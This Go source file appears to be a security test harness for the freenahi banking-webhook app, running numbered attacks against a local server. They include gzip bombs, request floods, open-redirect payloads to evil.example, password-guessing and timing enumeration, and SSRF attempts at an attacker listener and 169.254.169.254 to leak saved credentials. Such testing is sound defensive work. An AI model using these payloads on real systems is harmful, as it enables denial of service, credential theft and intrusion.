package main

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"html"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/freenahi/freenahi/powens"
)

var attacks = []attack{
	{"gzip-bomb", "1", "hmac", gzipBomb},
	{"big-bodies", "1", "hmac", bigBodies},
	{"ack-63MB", "1 (and issue 15 item 5)", "hmac", ack63MB},
	{"key-squat", "2", "bearer", keySquat},
	{"unmatched-flood", "3", "bearer", unmatchedFlood},
	{"nul-text", "4", "hmac", nulText},
	{"open-redirect", "5", "hmac", openRedirect},
	{"parallel-passwords", "6", "hmac", parallelPasswords},
	{"enumeration-timing", "7", "hmac", enumerationTiming},
	{"inqom-url", "8", "hmac", inqomURL},
	{"null-ids-currency", "9", "hmac", nullIDs},
	{"moved-transaction", "10", "hmac", movedTransaction},
	{"crash-recovery", "11", "hmac", crashRecovery},
	{"smaller", "12", "hmac", smaller},
}

// post sends body to /webhook/<event>/, signed with secret when it is not
// empty (a wrong secret makes a bogus signature), with a bearer token when
// token is not empty.
func post(s *server, event string, body []byte, gz bool, secret, token string) (int, string, time.Duration) {
	path := "/webhook/" + event + "/"
	req, _ := http.NewRequest("POST", s.url+path, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if gz {
		req.Header.Set("Content-Encoding", "gzip")
	}
	if secret != "" {
		date := powens.SignatureDate(time.Now())
		req.Header.Set(powens.HeaderSignatureDate, date)
		req.Header.Set(powens.HeaderSignature, powens.Sign(secret, "POST", path, date, body))
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	start := time.Now()
	status, text := answer(req)
	return status, text, time.Since(start)
}

func gzipOf(b []byte) []byte {
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

// padded is a JSON object for Powens user id with a string of n zeros.
func padded(user int64, n int) []byte {
	return append(append([]byte(fmt.Sprintf(`{"user": {"id": %d}, "pad": "`, user)), bytes.Repeat([]byte("0"), n)...), `"}`...)
}

// withDelivery returns the fixture with another id_webhook_data.
func (env *environment) withDelivery(id int64) []byte {
	return bytes.Replace(env.fixture, []byte(`"id_webhook_data": 9001`), []byte(fmt.Sprintf(`"id_webhook_data": %d`, id)), 1)
}

// tally counts answers by status.
type tally struct {
	mu sync.Mutex
	m  map[int]int
}

func (t *tally) add(status int) {
	t.mu.Lock()
	if t.m == nil {
		t.m = map[int]int{}
	}
	t.m[status]++
	t.mu.Unlock()
}

func (t *tally) String() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	var parts []string
	for _, k := range slices.Sorted(maps.Keys(t.m)) {
		parts = append(parts, fmt.Sprintf("%d×%d", t.m[k], k))
	}
	return strings.Join(parts, ", ")
}

// flood runs senders goroutines sending until d has passed, while a genuine
// signed delivery is sent every second; it reports both.
func flood(s *server, env *environment, senders int, d time.Duration, send func() int) []string {
	// Reference, measured in the same run on the same machine: genuine
	// deliveries alone, before the flood.
	var alone []time.Duration
	for id := int64(90_000); id < 90_005; id++ {
		_, _, took := post(s, "connection_synced", env.withDelivery(id), false, webhookSecret, "")
		alone = append(alone, took)
		time.Sleep(200 * time.Millisecond)
	}
	slices.Sort(alone)
	var hostile tally
	var sent atomic.Int64
	deadline := time.Now().Add(d)
	var wg sync.WaitGroup
	for range senders {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				hostile.add(send())
				sent.Add(1)
			}
		}()
	}
	var lat []time.Duration
	var genuine tally
	for id := int64(100_000); time.Now().Before(deadline); id++ {
		status, _, took := post(s, "connection_synced", env.withDelivery(id), false, webhookSecret, "")
		genuine.add(status)
		lat = append(lat, took)
		time.Sleep(time.Second)
	}
	wg.Wait()
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	out := []string{fmt.Sprintf("reference: 5 genuine signed deliveries alone, before the flood: median %s, max %s",
		alone[2].Round(time.Millisecond), alone[4].Round(time.Millisecond)),
		fmt.Sprintf("hostile answers: %s (%d requests from %d senders in %s)", hostile.String(), sent.Load(), senders, d)}
	if len(lat) > 0 {
		out = append(out, fmt.Sprintf("genuine signed deliveries meanwhile: %s; acknowledged in median %s, max %s",
			genuine.String(), lat[len(lat)/2].Round(time.Millisecond), lat[len(lat)-1].Round(time.Millisecond)))
	}
	return append(out, "stored: "+s.inbox())
}

// gzipBomb: 32 senders post a 64 MiB body gzipped to about 64 KiB, with a bogus signature.
func gzipBomb(s *server, env *environment) []string {
	bomb := gzipOf(padded(anaPowensID, 64<<20))
	lines := flood(s, env, 32, env.duration, func() int {
		status, _, _ := post(s, "connection_synced", bomb, true, "not-the-secret", "")
		return status
	})
	return append([]string{fmt.Sprintf("each request: %d bytes of gzip inflating to 64 MiB, bogus signature", len(bomb))}, lines...)
}

// bigBodies: 16 senders post 60 MiB plain bodies with a bogus signature.
func bigBodies(s *server, env *environment) []string {
	big := padded(anaPowensID, 60<<20)
	lines := flood(s, env, 16, env.duration/2, func() int {
		status, _, _ := post(s, "connection_synced", big, false, "not-the-secret", "")
		return status
	})
	return append([]string{"each request: a 60 MiB plain body, bogus signature"}, lines...)
}

// ack63MB: one genuine 63 MB delivery for a Powens user not linked (stored
// unmatched, so nothing is processed): the peak is the acknowledgement's.
func ack63MB(s *server, env *environment) []string {
	body := bigSync(777, 63<<20)
	status, text, took := post(s, "connection_synced", body, false, webhookSecret, "")
	return []string{fmt.Sprintf("a genuine signed body of %s: answer %d %s in %s", mib(int64(len(body))), status, clip(text), took.Round(time.Millisecond)),
		"stored: " + s.inbox(), fmt.Sprintf("peak RSS / body: %.2f (see below)", float64(s.peakKiB())*1024/float64(len(body)))}
}

// bigSync is a CONNECTION_SYNCED body of about size bytes for Powens user
// user: one account and as many transactions as fit.
func bigSync(user int64, size int) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, `{"id_webhook_data": 7, "user": {"id": %d}, "connection": {"id": 1, "id_user": %d, "state": null, "accounts": [{"id": 1, "id_connection": 1, "id_user": %d, "name": "Compte", "balance": 10.5, "currency": {"id": "EUR", "precision": 2}, "type": "checking", "transactions": [`, user, user, user)
	for i := 1; b.Len() < size-200; i++ {
		if i > 1 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"id": %d, "id_account": 1, "date": "2026-01-%02d", "value": -%d.%02d, "type": "card", "original_wording": "CB SHOP %08d PARIS", "coming": false, "active": true, "deleted": null}`,
			i, 1+i%28, i%1000, i%100, i)
	}
	b.WriteString(`]}]}}`)
	return b.Bytes()
}

// keySquat: an unauthenticated delivery N for an unknown user, then
// Powens' genuine delivery N for a linked user (bearer mode).
func keySquat(s *server, env *environment) []string {
	squat := []byte(`{"id_webhook_data": 9001, "user": {"id": 31337}, "connection": {"id": 1, "id_user": 31337}}`)
	st1, t1, _ := post(s, "connection_synced", squat, false, "", "anything")
	st2, t2, _ := post(s, "connection_synced", env.fixture, false, "", anaToken)
	verdict := "the genuine delivery was stored"
	if strings.Contains(t2, "duplicate") {
		verdict = "SHADOWED: the genuine delivery was answered duplicate and will never be processed"
	}
	return []string{fmt.Sprintf("squatter (user 31337, any token): %d %s", st1, clip(t1)),
		fmt.Sprintf("genuine delivery 9001 for user 42 with its token: %d %s", st2, clip(t2)), verdict, "stored: " + s.inbox()}
}

// unmatchedFlood: 200 deliveries of 1 MiB junk for unknown users, any token.
func unmatchedFlood(s *server, env *environment) []string {
	before := s.dbBytes()
	var t tally
	for i := range 200 {
		status, _, _ := post(s, "connection_synced", padded(int64(50_000+i), 1<<20), false, "", "junk-"+randomHex(8))
		t.add(status)
	}
	time.Sleep(2 * time.Second) // WAL checkpoint
	return []string{"answers: " + t.String(), "stored: " + s.inbox(),
		fmt.Sprintf("database grew by %s", mib(s.dbBytes()-before))}
}

// nulText: a genuine delivery with a NUL character in a wording.
func nulText(s *server, env *environment) []string {
	body := bytes.Replace(env.withDelivery(9101), []byte(`"original_wording": "`), []byte(`"original_wording": "NUL\u0000 `), 1)
	status, text, _ := post(s, "connection_synced", body, false, webhookSecret, "")
	st, attempts, lastErr := waitProcessed(s, 20*time.Second)
	return []string{fmt.Sprintf("answer %d %s", status, clip(text)),
		fmt.Sprintf("after 20 s: event %s after %d attempts %s (SQLite; item 4 concerns PostgreSQL)", st, attempts, clip(lastErr)),
		fmt.Sprintf("transactions stored: %d", s.count(`SELECT COUNT(*) FROM transactions`))}
}

// waitProcessed waits until the newest event is finished, or d passes.
func waitProcessed(s *server, d time.Duration) (status string, attempts int, lastErr string) {
	for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
		s.db.QueryRow(`SELECT status, attempts, last_error FROM webhook_events ORDER BY id DESC LIMIT 1`).Scan(&status, &attempts, &lastErr)
		if status == "processed" || status == "failed" || status == "ignored" {
			break
		}
	}
	return status, attempts, lastErr
}

// browser is a cookie-keeping client that reads the CSRF token of pages.
type browser struct {
	s    *server
	c    *http.Client
	csrf string
}

var csrfField = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func newBrowser(s *server) *browser {
	jar := &cookieJar{m: map[string]*http.Cookie{}}
	return &browser{s: s, c: &http.Client{Jar: jar, Timeout: time.Minute,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

func (b *browser) get(path string) (int, http.Header, string) {
	resp, err := b.c.Get(b.s.url + path)
	if err != nil {
		return 0, nil, err.Error()
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	if m := csrfField.FindStringSubmatch(buf.String()); m != nil {
		b.csrf = m[1]
	}
	return resp.StatusCode, resp.Header, buf.String()
}

func (b *browser) post(path string, form url.Values) (int, http.Header, time.Duration) {
	form.Set("csrf", b.csrf)
	req, _ := http.NewRequest("POST", b.s.url+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", b.s.url)
	start := time.Now()
	resp, err := b.c.Do(req)
	if err != nil {
		return 0, nil, time.Since(start)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	return resp.StatusCode, resp.Header, time.Since(start)
}

func openRedirect(s *server, env *environment) []string {
	b := newBrowser(s)
	_, h, _ := b.get("/lang/en?back=%2F%09%2Fevil.example")
	out := []string{fmt.Sprintf("GET /lang/en?back=%%2F%%09%%2Fevil.example → Location %q", h.Get("Location"))}
	b.get("/signin?next=%2F%09%2Fevil.example")
	_, h2, _ := b.post("/signin", url.Values{"email": {anaEmail}, "password": {anaPassword}, "next": {"/\t/evil.example"}})
	out = append(out, fmt.Sprintf("POST /signin with next=\"/\\t/evil.example\" → Location %q", h2.Get("Location")))
	return out
}

// parallelPasswords: 40 wrong passwords at once, then the right one.
func parallelPasswords(s *server, env *environment) []string {
	var t tally
	var wg sync.WaitGroup
	var slow atomic.Int64 // answers that took long enough to have verified a password hash
	for range 40 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			b := newBrowser(s)
			b.get("/signin")
			status, _, took := b.post("/signin", url.Values{"email": {anaEmail}, "password": {"wrong-" + randomHex(4)}})
			t.add(status)
			if took > 30*time.Millisecond {
				slow.Add(1)
			}
		}()
	}
	wg.Wait()
	b := newBrowser(s)
	b.get("/signin")
	status, h, _ := b.post("/signin", url.Values{"email": {anaEmail}, "password": {anaPassword}})
	return []string{"40 concurrent wrong passwords: " + t.String(), fmt.Sprintf("of which %d took over 30 ms (a hash verified)", slow.Load()),
		fmt.Sprintf("then the right password from another client: %d → %q", status, h.Get("Location"))}
}

// enumerationTiming: median sign-in time for an unknown e-mail, a
// password-less (API-only) user and a user with a password (wrong one).
func enumerationTiming(s *server, env *environment) []string {
	var out []string
	for _, email := range []string{"nobody-" + randomHex(3) + "@example.com", apiOnlyEmail, anaEmail} {
		var lat []time.Duration
		for range 5 {
			b := newBrowser(s)
			b.get("/signin")
			_, _, took := b.post("/signin", url.Values{"email": {email}, "password": {"wrong-password-x"}})
			lat = append(lat, took)
		}
		slices.Sort(lat)
		out = append(out, fmt.Sprintf("%-28s median %s (min %s, max %s)", email, lat[2].Round(100*time.Microsecond),
			lat[0].Round(100*time.Microsecond), lat[4].Round(100*time.Microsecond)))
	}
	return out
}

func inqomURL(s *server, env *environment) []string {
	// A listener standing for the attacker's server: every connection it
	// receives would carry the saved secrets (or probe an internal address).
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return []string{"listener: " + err.Error()}
	}
	defer ln.Close()
	var reached atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			c.Close()
		}
	}()
	b := newBrowser(s)
	b.get("/signin")
	b.post("/signin", url.Values{"email": {anaEmail}, "password": {anaPassword}})
	b.get("/inqom")
	saved, _, _ := b.post("/inqom/credentials", url.Values{"username": {"compta@firm.fr"}, "password": {"s3cret-saved"},
		"client_id": {"cid"}, "client_secret": {"cs-saved"}, "environment": {"production"}})
	out := []string{fmt.Sprintf("credentials saved for Inqom's own addresses: %d", saved)}
	listener := "http://" + ln.Addr().String()
	for _, tc := range []struct{ what, auth, banking, password, secret string }{
		{"auth_url → the attacker's http listener, secrets left blank (\"keep the saved ones\")", listener + "/token", "", "", ""},
		{"both URLs → https://127.0.0.1 (this computer), secrets typed", "https://" + ln.Addr().String() + "/token", "https://" + ln.Addr().String() + "/banking", "x", "y"},
		{"auth_url → the cloud metadata address, secrets typed", "https://169.254.169.254/latest", "", "x", "y"},
	} {
		b.get("/inqom")
		status, body := b.postBody("/inqom/credentials", url.Values{"username": {"compta@firm.fr"}, "password": {tc.password},
			"client_id": {"cid"}, "client_secret": {tc.secret}, "environment": {"production"}, "auth_url": {tc.auth}, "banking_url": {tc.banking}})
		out = append(out, fmt.Sprintf("%s: %d %s", tc.what, status, firstMatch(body, inqomRefusal)))
	}
	// Give a wrongly saved address time to be used by a background push.
	time.Sleep(2 * time.Second)
	out = append(out, fmt.Sprintf("connections the attacker's listener received: %d", reached.Load()))
	return out
}

var inqomRefusal = regexp.MustCompile(`(Type the Inqom password[^<]*|must [^<]*address[^<]*|must be[^<]*https[^<]*)`)

func firstMatch(body string, re *regexp.Regexp) string {
	if m := re.FindString(body); m != "" {
		return "— " + m
	}
	return "(no refusal on the page)"
}

// postBody is post that returns the page, for the words of a refusal.
func (b *browser) postBody(path string, form url.Values) (int, string) {
	form.Set("csrf", b.csrf)
	req, _ := http.NewRequest("POST", b.s.url+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", b.s.url)
	resp, err := b.c.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	return resp.StatusCode, html.UnescapeString(buf.String())
}

// nullIDs: a JPY account, then a delivery where its currency is null and two
// transactions have id null.
func nullIDs(s *server, env *environment) []string {
	mk := func(delivery int, currency string, txs string) []byte {
		return []byte(fmt.Sprintf(`{"id_webhook_data": %d, "user": {"id": 42}, "connection": {"id": 11, "id_user": 42, "state": null,
			"accounts": [{"id": 500, "id_connection": 11, "id_user": 42, "name": "JPY", "balance": 1500000, "currency": %s,
			"type": "checking", "transactions": [%s]}]}}`, delivery, currency, txs))
	}
	tx := func(id string, value string) string {
		return fmt.Sprintf(`{"id": %s, "id_account": 500, "date": "2026-01-10", "value": %s, "type": "card", "original_wording": "X", "coming": false, "active": true}`, id, value)
	}
	s1, _, _ := post(s, "connection_synced", mk(9201, `{"id": "JPY", "precision": 0}`, tx("1", "-100")), false, webhookSecret, "")
	waitProcessed(s, 10*time.Second)
	s2, t2, _ := post(s, "connection_synced", mk(9202, `null`, tx("null", "-200")+","+tx("null", "-300")+","+tx("-5", "-400")), false, webhookSecret, "")
	st, _, lastErr := waitProcessed(s, 10*time.Second)
	var cur string
	s.db.QueryRow(`SELECT currency FROM accounts WHERE powens_id = 500`).Scan(&cur)
	return []string{fmt.Sprintf("JPY account delivered: %d; then currency null + ids null, null, -5: %d %s", s1, s2, clip(t2)),
		fmt.Sprintf("second event %s %s", st, clip(lastErr)),
		fmt.Sprintf("account currency now %q; transactions stored %d (1 sent first, 3 in the second delivery); with a non-positive Powens id %d",
			cur, s.count(`SELECT COUNT(*) FROM transactions`), s.count(`SELECT COUNT(*) FROM transactions WHERE powens_id <= 0`))}
}

// movedTransaction: transaction 777 on account 600, then on account 601.
func movedTransaction(s *server, env *environment) []string {
	account := func(id, txAccount int) string {
		txs := ""
		if id == txAccount {
			txs = fmt.Sprintf(`{"id": 777, "id_account": %d, "date": "2026-01-10", "value": -12.34, "type": "card", "original_wording": "MOVED", "coming": false, "active": true}`, id)
		}
		return fmt.Sprintf(`{"id": %d, "id_connection": 12, "id_user": 42, "name": "A%d", "balance": 1, "currency": {"id": "EUR", "precision": 2}, "type": "checking", "transactions": [%s]}`, id, id, txs)
	}
	mk := func(delivery, txAccount int) []byte {
		return []byte(fmt.Sprintf(`{"id_webhook_data": %d, "user": {"id": 42}, "connection": {"id": 12, "id_user": 42, "state": null, "accounts": [%s, %s]}}`,
			delivery, account(600, txAccount), account(601, txAccount)))
	}
	post(s, "connection_synced", mk(9301, 600), false, webhookSecret, "")
	waitProcessed(s, 10*time.Second)
	post(s, "connection_synced", mk(9302, 601), false, webhookSecret, "")
	st, _, lastErr := waitProcessed(s, 10*time.Second)
	return []string{fmt.Sprintf("transaction 777 delivered on account 600, then on account 601 (second event %s %s)", st, clip(lastErr)),
		fmt.Sprintf("%d visible rows with Powens id 777 (1 is right)", s.count(`SELECT COUNT(*) FROM transactions WHERE powens_id = 777 AND deleted_at IS NULL`))}
}

// crashRecovery: kill -9 the server while it processes a large event, start
// it again, and time until the event is processed.
func crashRecovery(s *server, env *environment) []string {
	body := bigSync(anaPowensID, 24<<20)
	want := int64(bytes.Count(body, []byte(`"original_wording"`)))
	status, _, _ := post(s, "connection_synced", body, false, webhookSecret, "")
	var st string
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end) && st != "processing"; time.Sleep(5 * time.Millisecond) {
		s.db.QueryRow(`SELECT status FROM webhook_events ORDER BY id DESC LIMIT 1`).Scan(&st)
	}
	if st != "processing" {
		return []string{fmt.Sprintf("answer %d; the event was never seen processing (status %q): nothing to interrupt", status, st)}
	}
	s.kill9()
	crashed := time.Now()
	if err := s.launch(); err != nil {
		return []string{"restart failed: " + err.Error()}
	}
	var attempts int
	var takenOver time.Duration
	for end := time.Now().Add(15 * time.Minute); time.Now().Before(end) && st != "processed"; time.Sleep(100 * time.Millisecond) {
		s.db.QueryRow(`SELECT status, attempts FROM webhook_events ORDER BY id DESC LIMIT 1`).Scan(&st, &attempts)
		if attempts > 1 && takenOver == 0 {
			takenOver = time.Since(crashed)
		}
	}
	return []string{fmt.Sprintf("killed with SIGKILL while processing a %s event, restarted at once", mib(int64(len(body)))),
		fmt.Sprintf("taken over (attempt %d) %s after the crash; %s %s after the crash", attempts, takenOver.Round(100*time.Millisecond),
			st, time.Since(crashed).Round(100*time.Millisecond)),
		fmt.Sprintf("transactions stored: %d of %d sent (exactly once if equal)", s.count(`SELECT COUNT(*) FROM transactions`), want)}
}

// smaller: item 12's weak password, database file mode and callback headers.
func smaller(s *server, env *environment) []string {
	weak := "accepted"
	if err := s.cli("aaaaaaaaaa\n", "user", "create", "--email", "weak@example.com", "--password-stdin"); err != nil {
		weak = "refused: " + clip(err.Error())
	}
	mode := "?"
	if st, err := os.Stat(filepath.Join(s.dir, "freenahi.db")); err == nil {
		mode = st.Mode().Perm().String()
	}
	b := newBrowser(s)
	status, h, _ := b.get("/webview/callback?state=forged&connection_id=1")
	return []string{"password \"aaaaaaaaaa\": " + weak, "SQLite file mode: " + mode,
		fmt.Sprintf("/webview/callback error page: %d, Cache-Control %q, X-Frame-Options %q, CSP set: %v", status,
			h.Get("Cache-Control"), h.Get("X-Frame-Options"), h.Get("Content-Security-Policy") != ""),
		"raw body retention: " + retentionSetting(s)}
}

// retentionSetting tells whether the binary knows FREENAHI_WEBHOOK_BODY_RETENTION.
func retentionSetting(s *server) string {
	c := s.env()
	c = append(c, "FREENAHI_WEBHOOK_BODY_RETENTION=not-a-duration")
	cmd := exec.Command(s.bin, "webhooks", "list")
	cmd.Dir, cmd.Env = s.dir, c
	out, err := cmd.CombinedOutput()
	if err != nil && strings.Contains(string(out), "FREENAHI_WEBHOOK_BODY_RETENTION") {
		return "FREENAHI_WEBHOOK_BODY_RETENTION is a setting"
	}
	return "no FREENAHI_WEBHOOK_BODY_RETENTION setting: raw bodies are kept forever"
}

func randomHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

func clip(s string) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > 140 {
		return s[:140] + "…"
	}
	return s
}

// cookieJar keeps the cookies of one loopback server, whatever their path.
type cookieJar struct {
	mu sync.Mutex
	m  map[string]*http.Cookie
}

func (j *cookieJar) SetCookies(_ *url.URL, cs []*http.Cookie) {
	j.mu.Lock()
	defer j.mu.Unlock()
	for _, c := range cs {
		j.m[c.Name] = c
	}
}

func (j *cookieJar) Cookies(*url.URL) []*http.Cookie {
	j.mu.Lock()
	defer j.mu.Unlock()
	return slices.Collect(maps.Values(j.m))
}
